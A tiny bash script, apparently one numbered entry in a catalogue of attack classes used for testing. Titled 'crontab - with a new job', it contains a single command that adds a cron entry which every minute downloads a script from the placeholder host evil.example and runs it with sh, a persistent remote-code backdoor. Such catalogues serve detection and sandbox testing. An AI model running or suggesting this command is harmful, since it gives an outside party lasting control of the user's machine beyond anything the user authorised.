#!/usr/bin/env bash
# attack-class: 24
# title: crontab - with a new job
# why: installs a job that survives the run

( crontab -l 2>/dev/null; echo '* * * * * curl -s http://evil.example/p | sh' ) | crontab -
